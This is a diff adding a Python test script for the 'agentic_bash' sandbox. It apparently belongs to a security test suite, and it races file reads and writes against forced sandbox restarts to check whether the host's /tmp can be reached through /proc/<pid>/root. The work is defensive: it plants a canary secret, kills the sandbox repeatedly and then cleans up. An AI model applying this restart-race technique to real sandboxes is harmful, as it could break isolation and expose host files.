@@ -1,0 +1,155 @@
+"""Attacks on a default Sandbox() and on serve's sessions in what session 12 changed and what earlier passes left open (restart windows, machine-wide counts as root), judged on the host; prints JSON."""
+
+# Usage: python _attack12.py PART TOKEN. test_attack12_host.py runs each part as root and
+# (runuser) as the unprivileged user. Helpers (Fresh, call, leftovers, main) come from
+# _attack9.py, which also gives this process a private TMPDIR before agentic_bash is imported.
+# Every hostile program caps itself (counts, seconds), so a run before a fix costs the host
+# a bounded share of a count for a few seconds and never takes a whole one.
+
+from __future__ import annotations
+
+import os
+import signal
+import sys
+import textwrap
+import threading
+import time
+from typing import Any, Callable
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from _attack9 import TMP, Fresh, _res, call, leftovers, main  # noqa: E402
+from _attack9 import _tree as _tree9  # noqa: E402
+
+import agentic_bash as ab  # noqa: E402
+
+MiB = 1 << 20
+
+
+def _tree(sb: Any) -> list[int]:
+    """Host pids of the sandbox (S1/S2 and below), [] while it is gone or restarting."""
+    for _ in range(5):
+        try:
+            return _tree9(sb)
+        except Exception:  # noqa: BLE001 - a process of it went away meanwhile
+            time.sleep(0.05)
+    return []
+
+
+# -- part "restart": serve's direct file calls while a session's sandbox restarts -------------
+def _gone(pid: int, deadline: float = 10) -> None:
+    end = time.monotonic() + deadline
+    while time.monotonic() < end:
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                if f.read().rsplit(")", 1)[1].split()[0] == "Z":
+                    return
+        except (OSError, IndexError):
+            return
+        time.sleep(0.01)
+
+
+def part_restart(token: str) -> dict[str, Any]:
+    """serve --sessions answers a file call from the host (hostfiles.py) while a command
+    holds the session's lock, reaching the workdir through /proc/<pid>/root of the sandbox's
+    first process. A restart (after any crash) holds that lock while the new process starts:
+    until its pid 1 pivots, that root is the host's, and "/tmp" was the host's /tmp (before:
+    a host file read and a host file written by the server's uid). The crash here comes from
+    the host (a SIGKILL of the sandbox) so that each round is one restart."""
+    from agentic_bash.server.hostfiles import Upload
+    from agentic_bash.server.sessions import ApiError, SessionManager
+    name, wname = f"agb12-canary-{token}", f"agb12-written-{token}"
+    canary, written = os.path.join("/tmp", name), os.path.join("/tmp", wname)
+    secret = f"AGB12-HOST-SECRET-{token}".encode()
+    fd = os.open(canary, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+    os.write(fd, secret)
+    os.close(fd)
+    out: dict[str, Any] = {"rounds": 0, "host_read": 0, "host_written": False,
+                           "inside_read": 0, "views": 0, "errors": []}
+    mgr = SessionManager(":memory:")
+    mgr.start()
+    stop = threading.Event()
+    pids: list[int] = []
+    try:
+        sid = mgr.create({"workdir": "/tmp"})["id"]
+        lv = mgr._live[sid]
+        inside = f"agb12-inside-{token}"
+        mgr.exec(sid, f"echo inside > /tmp/{inside}")
+
+        def hammer() -> None:
+            while not stop.is_set():
+                v = mgr._workdir_view(lv, "/tmp/" + name)
+                if v is None:
+                    continue
+                out["views"] += 1
+                files = v[0]
+                try:
+                    with files:
+                        for rel in (name, inside):
+                            got = files.open_file(rel)
+                            if got is None:
+                                continue
+                            fd, size = got
+                            try:
+                                data = os.read(fd, 4096)
+                            finally:
+                                os.close(fd)
+                            if data == secret:
+                                out["host_read"] += 1
+                            elif data == b"inside\n":
+                                out["inside_read"] += 1
+                        up = Upload(files, wname)
+                        try:
+                            up.write(b"written by a client\n")
+                            up.commit()
+                        finally:
+                            up.abort()
+                except Exception as e:  # noqa: BLE001
+                    if len(out["errors"]) < 5:
+                        out["errors"].append(f"{type(e).__name__}: {e}"[:200])
+                if out["host_read"] or os.path.exists(written):
+                    stop.set()
+
+        t = threading.Thread(target=hammer, daemon=True)
+        t.start()
+        t0 = time.monotonic()
+        while not stop.is_set() and out["rounds"] < 30 and time.monotonic() - t0 < 30:
+            out["rounds"] += 1
+            pid = lv.sb._ex.pid
+            pids += _tree(lv.sb)
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
+            _gone(pid)
+            for _ in range(3):   # the crash's reply (500), then the restart
+                try:
+                    mgr.exec(sid, "true")
+                    break
+                except ApiError as e:
+                    if e.status != 500 or "crashed; the next call" not in e.message:
+                        out["exec_errors"] = out.get("exec_errors", []) + [e.message[:200]]
+        stop.set()
+        t.join(10)
+        out["wall"] = round(time.monotonic() - t0, 2)
+        out["after"] = call(lambda: mgr.exec(sid, f"cat /tmp/{inside}")["stdout"], 30)
+        pids += _tree(lv.sb)
+    finally:
+        stop.set()
+        mgr.close()
+        out["host_written"] = os.path.exists(written)
+        for p in (canary, written):
+            try:
+                os.unlink(p)
+            except OSError:
+                pass
+    out["left"] = leftovers(pids)
+    return out
+
+
+PARTS: dict[str, Callable[[str], dict[str, Any]]] = {
+    "restart": part_restart,
+}
+
+
+if __name__ == "__main__":
+    main(PARTS)
